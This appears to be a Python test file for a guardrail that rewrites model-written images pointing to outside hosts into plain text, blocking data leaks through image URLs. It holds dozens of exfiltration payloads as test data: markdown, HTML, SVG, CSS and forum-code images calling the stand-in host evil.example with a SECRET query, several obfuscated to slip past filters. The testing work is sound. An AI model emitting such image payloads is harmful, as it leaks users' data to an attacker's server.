"""No image that a model writes loads from elsewhere; links, and code about images, stay."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.gate import Gate
from guardrails.images import ImageFilter

E = "https://evil.example/p?d=SECRET"
IMAGES = {
    "inline": (f"![chart]({E})", "(image: chart, evil.example)"),
    "inline with a title": (f'![chart]({E} "a (b) title")', "(image: chart, evil.example)"),
    "in angle brackets": (f"![a](<{E}>)", "(image: a, evil.example)"),
    "without words": (f"![]({E})", "(image: evil.example)"),
    "without scheme": ("![a](//evil.example/p?d=SECRET)", "(image: a, evil.example)"),
    "with backslashes": (r"![a](\\evil.example/p?d=SECRET)", "(image: a, evil.example)"),
    "as an entity": ("![a](&#104;ttps://evil.example/SECRET)", "(image: a, evil.example)"),
    "escaped": (r"![a](https\://evil.example/SECRET)", "(image: a)"),
    "with brackets in it": ("![a](https://evil.example/(x)SECRET)", "(image: a, evil.example)"),
    "on two lines": (f"![a\nb](\n{E})", "(image: a b, evil.example)"),
    "in a link": (f"[![a]({E})](https://ok.example)", "[(image: a, evil.example)](https://ok.example)"),
    "html": (f'<img src="{E}" alt="chart">', "(image: chart, evil.example)"),
    "html over lines": (f"<IMG\n src='{E}'\n/>", "(image: evil.example)"),
    "html without quotes": (f"<img/src={E}>", "(image: evil.example)"),
    "a quoted end": (f"<img\nalt='>' src='{E}'>", f"< img\nalt='>' src='{E}'>"),
    "a quoted beginning": (f"<img alt='<' src='{E}'>", f"< img alt='<' src='{E}'>"),
    "a stray beginning": (f"<img x< src='{E}'>", f"< img x< src='{E}'>"),
    "svg": (f'<svg><image href="{E}"/></svg>', "<svg>(image: evil.example)</svg>"),
    "video": (f'<video poster="{E}"></video>', "(image: evil.example)</video>"),
    "style": (f'<p style="background:url({E})">', "(image: not shown)"),
    "css": (f"a {{ background: url('{E}') }}", "a { background: url(evil.example) }"),
    "board": (f"[img]{E}[/img]", "(image: evil.example)"),
    "board with a value": (f"[img={E}]", "(image: not shown)"),
    "a link with a mark": (f"!<{E}>", f"! <{E}>"),
    "an address with a mark": (f"!{E}", f"! {E}"),
    "an unfinished one": (f"![a]({E}", "(image: a, evil.example)"),
    "an unfinished tag": (f"<img src='{E}'", f"< img src='{E}'"),
}  # fmt: skip


def _through(text: str, size: int, hosts: frozenset[str] = frozenset()) -> str:
    gate = Gate(images=ImageFilter(hosts))
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    return "".join([*map(gate.feed, pieces), gate.close()])


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1_000])
@pytest.mark.parametrize("kind", IMAGES)
def test_an_image_from_elsewhere_becomes_its_words(kind: str, size: int) -> None:
    written, told = IMAGES[kind]
    assert _through(f"See {written}", size) == f"See {told}"


@pytest.mark.parametrize("size", [1, 5, 1_000])
def test_an_image_by_a_label_has_no_address_before_or_behind_it(size: int) -> None:
    later = _through(f"See ![chart][c1].\n\n[c1]: {E}\n", size)
    assert "SECRET" not in later
    earlier = _through(f"[c1]: {E}\n\nSee ![chart][C1] and ![c1].", size)
    assert earlier.endswith("See (image: chart) and (image: c1).")
    assert "SECRET" not in _through(f"![c1][]\n\n> [c1]: <{E}>", size)


@pytest.mark.parametrize("size", [1, 5, 1_000])
@pytest.mark.parametrize(
    "text",
    [
        f"![a `]` b]({E})",
        f"![a [b](c) d]({E})",
        f"![![x]({E})]({E})",
        f"`![a]({E})",
        f"<div>\n```\n\n![a]({E})",
        f"> ```\n\n![a]({E})",
        f"- ```\n![a]({E})",
        f"```\nx\n```\n![a]({E})",
        f"````\n```\n````\n![a]({E})",
        f"```a`b\n![a]({E})",
        f"![{'a' * 5_000}]({E})",
    ],
)
def test_what_hides_an_image_from_us_hides_it_from_its_readers(text: str, size: int) -> None:
    out = _through(text, size)
    assert not re.search(r"!\[[^\]]*\]\(https", out), out
    assert "](https" not in out, out


KEPT = [
    "[the docs](https://ok.example/a?b=c) and https://ok.example, <https://ok.example>",
    "[docs][1]\n\n[1]: https://ok.example/a?b=c\n",
    "![logo](/files/logo.png) ![x](img/x.png?v=2) ![dot](data:image/png;base64,iVBORw0KGgo=)",
    "Attention! [this](https://ok.example) is it! Yes! (really)",
    "let v = vec![1, 2, 3]; println!(\"{}\", v[0]); arr![i](x)",
    "if a<b and b>c then List<String> is <b>bold</b>, <br/>, <a href='https://ok.example'>a</a>",
    f"```markdown\n![chart]({E})\n<img src='{E}'>\n```\n",
    "1 < 2, x <- y, <= and =>, a <",
    "- [ ] to do\n- [x] done\n[not a label] at all: no",
    "curl(https) and url(/static/a.png), your!",
]  # fmt: skip


@pytest.mark.parametrize("size", [1, 4, 1_000])
@pytest.mark.parametrize("text", KEPT)
def test_links_code_and_images_of_our_own_stay(text: str, size: int) -> None:
    assert _through(text, size) == text


def test_a_project_may_name_hosts_whose_images_are_shown() -> None:
    ours = "![a](https://cdn.example.org/a.png?v=1) <img src='https://cdn.example.org/b.png'>"
    hosts = frozenset({"cdn.example.org"})
    assert _through(ours, 3, hosts) == ours
    for other in ("![a](https://cdn.example.org.evil.example/a)", "![a](https://x@cdn.example.org/a)",
                  "![a](http://cdn.example.org/a)"):  # fmt: skip
        assert "(image: a" in _through(other, 3, hosts)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["![", "](", "]", "[", ")", "(", "a", " ", "\n", "\n\n", "`", "```\n", "<", ">", "!",
             "https://evil.example/SECRET", "[r]", "[r]: ", "img src=", "<img ", '"', "<div>\n",
             "\\", "&", ":"]
        ),
        max_size=24,
    ),
    st.integers(1, 9),
)  # fmt: skip
def test_no_mixture_leaves_a_plain_image_outside_of_a_code_block(
    parts: list[str], size: int
) -> None:
    out = _through("".join(parts), size)
    if "```" not in out:
        assert not re.search(r"!\[[^\[\]\\`]*\]\(<?https://evil", out), out
        assert not re.search(r"<img[\s/][^<>]*src=[\"']?https://evil[^<>]*>", out), out


@settings(max_examples=100, deadline=None)
@given(st.text("![]()<>ab`\n:/ h", max_size=200), st.integers(1, 9))
def test_pieces_come_to_the_same_as_the_whole(text: str, size: int) -> None:
    assert _through(text, size) == _through(text, 1_000)


def test_what_never_ends_is_not_held_for_ever() -> None:
    for begun in ("![", "![a](", "<img ", "[img]", "url(", "[a]: "):
        gate = Gate(images=ImageFilter())
        out = gate.feed(begun + "x" * 20_000)
        assert len(out) > 10_000, begun
